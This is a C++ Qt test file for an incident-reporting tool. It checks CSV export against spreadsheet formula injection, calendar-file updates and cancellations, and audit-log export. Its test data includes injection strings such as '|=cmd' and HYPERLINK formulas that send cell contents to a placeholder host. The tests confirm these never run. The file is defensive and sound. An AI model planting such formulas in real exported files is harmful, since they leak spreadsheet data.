// SPDX-License-Identifier: GPL-3.0-or-later
// Files for other programs: tables that a spreadsheet opens without running or changing anything, calendar files that
// update and cancel, and documents whose characters are all there.
#include "documents/table_file.h"
#include "incidents/calendar_file.h"
#include "log/entry_export.h"
#include "log/sequencer.h"
#include "process.h"
#include "webhooks.h"

using namespace nachweis;
using namespace nachweis::test;

class TestCaseFiles : public QObject
{
    Q_OBJECT
    Sample m_sample;
    QTemporaryDir m_dir;

    QJsonObject read(const QString &table, const QString &manifest)
    {
        const Run python = run(u"python3"_s, {QStringLiteral(SPREADSHEET), table, manifest});
        if (python.exit != 0)
            qFatal("%s", python.error.constData());
        return python.json();
    }

    // The events of a calendar file by their UID, unfolded.
    static QMap<QByteArray, QMap<QByteArray, QByteArray>> eventsIn(QByteArray file)
    {
        QMap<QByteArray, QMap<QByteArray, QByteArray>> events;
        file.replace("\r\n ", "");
        bool alarm = false;
        QMap<QByteArray, QByteArray> event;
        for (const QByteArray &line : file.split('\n')) {
            const qsizetype colon = line.indexOf(':');
            const QByteArray name = line.left(colon), value = line.mid(colon + 1).trimmed();
            if (value == "VALARM")
                alarm = name == "BEGIN";
            else if (name == "BEGIN")
                event.clear();
            else if (name == "END" && value == "VEVENT")
                events.insert(event["UID"], event);
            else if (!alarm)
                event.insert(name, value);
        }
        return events;
    }

private Q_SLOTS:
    void nothingRunsAndEverythingComesBack()
    {
        const QStringList said{u"=1+1"_s,
                               u"+49171 3920012"_s,
                               u"-2+3"_s,
                               u"@SUM(A1)"_s,
                               u"＝1+1"_s,
                               u"ok;=HYPERLINK(\"http://x/?\"&A1;\"y\")"_s,
                               u"\t=1+1"_s,
                               u"\r=1+1"_s,
                               u"\n=1+1"_s,
                               u"  =1+1"_s,
                               u" =1+1"_s,
                               u"\u200b=1"_s,
                               u"a\"b;=1+1"_s,
                               u"x;\"=1+1\""_s,
                               u"a;=1+1;b"_s,
                               u"x,y;\t\"\" -3"_s,
                               u"'=already"_s,
                               u"''+twice;'=x"_s,
                               u"ordinary, text; with \"quotes\""_s,
                               u"Groß-Gerau – zugestellt"_s,
                               u""_s,
                               u"007"_s,
                               u"491713920012"_s,
                               u"4E11"_s,
                               u"'491713920012"_s,
                               u"12"_s,
                               u"-5"_s,
                               u"a=b"_s,
                               u"two\nlines"_s,
                               u";;=1"_s,
                               u"|=cmd"_s,
                               u"-"_s};
        for (const bool ascii : {false, true}) {
            QByteArray table;
            QJsonArray wanted;
            for (const QString &one : said) {
                if (ascii && documents::needsByteOrderMark(one.toUtf8()))
                    continue;
                // Every place in a line: first, amid, last.
                const QStringList row{one, u"x"_s, one, u"7"_s, one};
                table += documents::tableRow(row);
                wanted.append(QJsonArray::fromStringList(row));
            }
            const bool mark = documents::needsByteOrderMark(table);
            QCOMPARE(mark, !ascii);
            const QString path = m_dir.filePath(u"t.csv"_s), manifest = m_dir.filePath(u"t.json"_s);
            QVERIFY(writeFile(path, (mark ? QByteArray(documents::byteOrderMark) : QByteArray()) + table));
            QVERIFY(writeFile(manifest, QJsonDocument(documents::tableMarks(mark)).toJson()));
            const QJsonObject seen = read(path, manifest);
            QVERIFY2(seen[u"running"].toArray().isEmpty(),
                     QJsonDocument(seen[u"running"].toArray()).toJson().constData());
            QCOMPARE(seen[u"fields"].toArray(), wanted);
        }
        QCOMPARE(documents::guarded(u"12"_s), u"12"_s); // a number that a cell keeps stays one
        QCOMPARE(documents::guarded(u"2026-11-25T12:00:00Z"_s), u"2026-11-25T12:00:00Z"_s);
    }
    // A file that is sent again moves and cancels what the first one put into a calendar.
    void calendarFilesUpdateAndCancel()
    {
        Desk d(m_sample);
        Instant now = instant("2026-11-24T10:20:00+01:00");
        d.session.clock = [&now] { return now; };
        const QString id =
            incidents::openIncident(d.stores, d.session, u"Leck; Ausfall, 100 % \\ „ä“ 🔓"_s, {}, berlin())->id;
        const auto file = [&]() -> Result<QByteArray> {
            NACHWEIS_ASSIGN(const auto timeline, incidents::incidentTimeline(*d.stores.gateway, id));
            return incidents::calendarFile(*incidents::incident(*d.stores.gateway, id), timeline.size(), {24, 2}, now);
        };
        QCOMPARE(file().error().code, ErrorCode::Refused); // nothing to write
        NVERIFY(incidents::becomeAware(d.stores, d.session, id, now, u"certain"_s));
        NVERIFY(incidents::addObligation(d.stores, d.session, id, u"nis2-24h"_s, now));
        const auto first = eventsIn(*file());
        QCOMPARE(first.size(), 4);
        for (const auto &event : first) {
            QVERIFY(!event.contains("DTEND") && event.contains("DTSTART") && event.contains("DTSTAMP"));
            QVERIFY(!event.contains("STATUS"));
        }
        NVERIFY(
            incidents::proposeAwareness(d.stores, d.session, id, instant("2026-11-23T21:00:00+01:00"), u"earlier"_s));
        NVERIFY(incidents::approveAwareness(d.stores, approver(d.session), id));
        const auto moved = eventsIn(*file());
        QCOMPARE(moved.keys(), first.keys());
        const QByteArray alarm = id.toUtf8() + "-gdpr-33-1-alarm@nachweis";
        QVERIFY(moved[alarm]["DTSTART"] < first[alarm]["DTSTART"]);
        for (auto it = moved.begin(); it != moved.end(); ++it)
            QVERIFY(it.value()["SEQUENCE"].toInt() > first[it.key()]["SEQUENCE"].toInt());
        NVERIFY(incidents::obligationNotApplicable(d.stores, d.session, id, u"nis2-24h"_s, u"no such entity"_s));
        const auto aside = eventsIn(*file());
        QCOMPARE(aside.keys(), first.keys()); // what is gone is said, not left out
        for (auto it = aside.begin(); it != aside.end(); ++it)
            QCOMPARE(it.value().value("STATUS"), it.key().contains("nis2") ? QByteArray("CANCELLED") : QByteArray());
        NVERIFY(incidents::fileNotification(d.stores, d.session, id, now, u"Az. 1"_s, {}));
        const QByteArray last = *file();
        for (const auto &event : eventsIn(last))
            QCOMPARE(event.value("STATUS"), QByteArray("CANCELLED"));
        QVERIFY(!last.contains("VALARM")); // nothing rings for a clock that stands
        QVERIFY(!last.contains("Leck"));
    }
    void theLogAsATable()
    {
        Desk d(m_sample);
        const auto exported = [&](const char *name) {
            const QString path = m_dir.filePath(QLatin1String(name));
            const auto e = log::exportEntries(d.stores, d.session, {}, log::ExportFormat::Csv, path);
            if (!e)
                qFatal("%s", qPrintable(e.error().message));
            return read(path, e->manifest);
        };
        const QJsonObject before = exported("before.csv");
        QVERIFY(before[u"ascii"].toBool() && !before[u"mark"].toBool() && !before[u"said"].toBool());
        // As a log from before entries had a form may hold it.
        NVERIFY(d.stores.audit.run(u"UPDATE entries SET actor = ?, outcome = ?, ref = ? WHERE idx = 40"_s,
                                   {u"integration:Müller & Söhne"_s,
                                    u"ok;=HYPERLINK(\"http://127.0.0.1/?\"&A1;\"Details\")"_s, u"+49171;@SUM(1+1)"_s}));
        NVERIFY(log::record(d.stores, d.session, log::staffEvent(d.session, u"data.read"_s, u"ok"_s)));
        const QJsonObject after = exported("after.csv");
        QVERIFY(after[u"mark"].toBool() && after[u"said"].toBool());
        QVERIFY2(after[u"running"].toArray().isEmpty(),
                 QJsonDocument(after[u"running"].toArray()).toJson().constData());
        const QByteArray fields = QJsonDocument(after[u"fields"].toArray()).toJson();
        QVERIFY(fields.contains("integration:Müller & Söhne") && fields.contains("\"+49171;@SUM(1+1)\""));
        QVERIFY(after[u"fields"].toArray().size() > before[u"fields"].toArray().size());
    }
};

QTEST_GUILESS_MAIN(TestCaseFiles)
#include "tst_case_files.moc"
